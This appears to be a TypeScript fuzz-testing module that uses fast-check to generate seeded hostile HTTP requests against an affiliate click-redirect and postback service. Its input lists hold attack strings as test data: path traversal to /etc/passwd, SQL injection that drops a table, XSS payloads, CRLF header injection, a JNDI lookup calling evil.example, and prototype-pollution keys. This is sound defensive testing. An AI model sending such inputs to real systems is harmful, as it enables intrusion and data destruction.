import fc from "fast-check";

// Requests as nobody decent sends them, from a seed: the same seed makes the same ones.

export type HostileRequest = { path: string; init: RequestInit & { headers: Record<string, string> } };

/** Ids that exist, so that requests get past the first rules. */
export type Known = { links: string[]; clicks: string[]; tokens: string[] };

const LONG = ["x".repeat(501), "é".repeat(5_000), "😀".repeat(300), "%".repeat(20_000), "y".repeat(61_000)];
const NASTY = [
  "",
  " ",
  "0",
  "-1",
  "1e999",
  "NaN",
  "null",
  "undefined",
  "true",
  "../../../etc/passwd",
  "'); DROP TABLE clicks; --",
  "' OR '1'='1",
  '"; SELECT sqlite_version(); --',
  "1; ATTACH DATABASE 'x' AS y",
  `<script>alert("x")</script>`,
  `"><img src=x onerror='alert(1)'>`,
  "</title></code><svg onload=alert(1)>",
  "javascript:alert(1)",
  "a\r\nSet-Cookie: stolen=1\r\n\r\n<b>",
  "a\nLocation: https://evil.example/",
  "a\u0000b",
  "\u0001\u0007\u001b[31m\u007f\u0085",
  "\u202eevil\u2028\u2029\ufeff",
  "\ud800 alone",
  "{gk_click_id}",
  "{pub_member_id:raw}",
  "[id]",
  "#s1#",
  "PUB_MEMBER_ID",
  "__proto__",
  "constructor",
  "{{7*7}}",
  `\${jndi:ldap://evil.example/a}`,
  "=HYPERLINK(1)",
  "999999999999999999999999999999",
  "0.0000000001",
  "1,50",
  "٣",
  "https://evil.example/?a=b#c",
  "approved",
  "rejected",
  "00000000-0000-8000-8000-000000000000",
];
// Pasted into the query as they are: not every byte sequence is a character, nor every % a byte.
const RAW = [
  "%",
  "%zz",
  "%u0041",
  "%c0%ae",
  "%ff%fe%fd",
  "%00",
  "%0d%0aSet-Cookie:%20a=b",
  "%ed%a0%80",
  "%25%30%41",
  "a&&=b&=&",
  "+%2B+",
  ";a=b;",
  "%E2%28%A1",
];

const NAMES = [
  [
    "pub_click_id",
    "pub_member_id",
    "pub_sub_1",
    "pub_sub1",
    "pub_sub_15",
    "pub_session_id",
    "pub_gender",
    "pub_age",
  ],
  [
    "pub_geo_country",
    "pub_geo_state",
    "pub_postal_code",
    "gk_click_id",
    "cnv_event_id",
    "event_id",
    "cnv_amount",
  ],
  [
    "amount",
    "cnv_payout",
    "payout",
    "cnv_currency",
    "currency",
    "cnv_conversion_id",
    "transaction_id",
    "cnv_status",
  ],
  [
    "status",
    "cnv_conversion_ip_address",
    "cnv_email",
    "cnv_user_id",
    "cnv_sub_1",
    "cnv_sub_5",
    "test",
    "token",
  ],
  [
    "signature",
    "return",
    "pub_sub_1[]",
    "pub_member_id[0]",
    "__proto__",
    "constructor",
    "toString",
    "",
    "é",
    "a b",
  ],
].flat();

const value = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 1, arbitrary: fc.constantFrom(...LONG) },
  { weight: 3, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ minLength: 1, maxLength: 20 }) },
);
const pairs = fc.array(fc.tuple(fc.constantFrom(...NAMES), value), { maxLength: 8 });

/** A query that carries what lets a request through, in front of or behind nonsense. */
const queryOf = (good: fc.Arbitrary<Record<string, string>>) =>
  fc
    .tuple(good, pairs, fc.option(fc.constantFrom(...RAW), { freq: 4 }), fc.boolean())
    .map(([some, more, raw, first]) => {
      const kept = new URLSearchParams(some).toString();
      const rest = new URLSearchParams(more.map(([name, text]) => [name, text])).toString();
      return [...(first ? [kept, rest] : [rest, kept]), raw === null ? "" : `pub_sub_2=${raw}&${raw}`]
        .filter((part) => part !== "")
        .join("&");
    });

const deep = (open: string, close: string) => `${open.repeat(10_000)}1${close.repeat(10_000)}`;
const bodies = (good: fc.Arbitrary<Record<string, string>>) =>
  fc.oneof(
    fc.tuple(good, pairs).map(([some, more]) => JSON.stringify({ ...Object.fromEntries(more), ...some })),
    fc
      .tuple(good, pairs)
      .map(([some, more]) => new URLSearchParams([...more, ...Object.entries(some)]).toString()),
    fc.json({ maxDepth: 6 }),
    fc
      .tuple(good, fc.jsonValue())
      .map(([some, odd]) => JSON.stringify({ ...some, cnv_amount: odd, test: odd, token: odd })),
    value,
    fc.constantFrom(
      deep('{"a":', "}"),
      deep("[", "]"),
      '{"gk_click_id":',
      "[[[[",
      '"\\ud800"',
      '{"__proto__":{"test":"1"}}',
    ),
    fc.constantFrom(
      `{"a":"${"x".repeat(64_000)}"}`,
      `gk_click_id=1&b=${"z".repeat(70_000)}`,
      "\u0000".repeat(500),
    ),
    fc.uint8Array({ maxLength: 300 }),
  );

const TYPES = [
  "application/json",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=x",
  "text/plain",
  "JSON; charset=evil",
  "",
];
const header = fc.string({
  unit: fc.integer({ min: 0x20, max: 0x7e }).map((code) => String.fromCharCode(code)),
  maxLength: 60,
});
const headers = fc.record({
  accept: fc.constantFrom("text/html", "*/*", "application/json", "text/html;q=0,<b>", ""),
  "user-agent": fc.oneof(
    header,
    fc.constantFrom("", "curl/8", "x".repeat(9_000), "Mozilla/5.0 (Windows NT 10.0) Chrome/130 <script>"),
  ),
  referer: fc.oneof(header, fc.constant("https://evil.example/\"'><script>")),
  "accept-language": header,
  "sec-ch-ua-platform": header,
  "sec-purpose": fc.oneof(header, fc.constant("prefetch")),
  "cf-connecting-ip": fc.oneof(
    fc.tuple(fc.nat(3), fc.nat(15)).map(([a, b]) => `10.${a}.${b}.7`),
    fc.constantFrom("2001:db8::1", "not an address", "'; --"),
  ),
  "x-forwarded-for": header,
});

const segment = fc.oneof(
  fc.constantFrom(...NASTY, ...RAW),
  fc.uuid(),
  fc.string({ maxLength: 30 }),
  fc.constant("z".repeat(3_000)),
);
const inPath = (text: string) => {
  const encoded = encodeURIComponent(text.toWellFormed());
  return text.startsWith("%") ? text : encoded;
};

const GETS = Array<string>(9).fill("GET");
const POSTS = Array<string>(15).fill("POST");

/** Requests to every door of the edge: `fc.sample(hostileRequests(known), { seed, numRuns })`. */
export function hostileRequests({ links, clicks, tokens }: Known): fc.Arbitrary<HostileRequest> {
  const click = fc.record({
    pub_click_id: fc.oneof(value, fc.constant("c")),
    pub_member_id: fc.oneof(value, fc.constant("m")),
  });
  const conversion = fc.record({
    gk_click_id: fc.oneof(
      fc.constantFrom(...clicks),
      fc.constantFrom(...clicks).map((id) => id.replaceAll("-", "").toUpperCase()),
      value,
      fc.uuid(),
    ),
  });
  const linkPath = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...links) },
    { weight: 1, arbitrary: segment.map(inPath) },
  );
  const redirect = fc.record({
    path: linkPath.map((id) => `/api/v1/offer-link/redirect/${id}`),
    query: queryOf(click),
    method: fc.constantFrom(...GETS, "HEAD", "POST", "OPTIONS"),
    body: bodies(click),
  });
  const door = fc.oneof(
    fc.constantFrom("/postback", "/track", "/api/v1/postback"),
    fc.oneof(fc.constantFrom(...tokens), segment.map(inPath)).map((token) => `/api/v1/postback/${token}`),
  );
  const postback = fc.record({
    path: door,
    query: queryOf(fc.oneof(conversion, fc.constant({}))),
    method: fc.constantFrom(...GETS, ...POSTS, "HEAD", "PUT", "PROPFIND"),
    body: bodies(conversion),
  });
  const elsewhere = fc.record({
    path: fc.oneof(
      fc.constantFrom(
        "/",
        "/healthz",
        "/api",
        "/api/v1",
        "/api/v1/",
        "/api/v1/nothing",
        "/postback/x",
        "//",
        "/favicon.ico",
      ),
      segment.map((text) => `/${inPath(text)}`),
    ),
    query: queryOf(fc.constant({})),
    method: fc.constantFrom("GET", "POST", "PATCH", "TRACE"),
    body: bodies(fc.constant({})),
  });
  const anywhere = fc.oneof(
    { weight: 4, arbitrary: redirect },
    { weight: 5, arbitrary: postback },
    { weight: 1, arbitrary: elsewhere },
  );
  return fc
    .tuple(anywhere, headers, fc.constantFrom(...TYPES))
    .map(([{ path, query, method, body }, sent, type]) => {
      const hasBody = !["GET", "HEAD", "TRACE"].includes(method);
      const init = { method, headers: { ...sent, ...(hasBody ? { "content-type": type } : {}) } };
      return { path: query === "" ? path : `${path}?${query}`, init: hasBody ? { ...init, body } : init };
    });
}
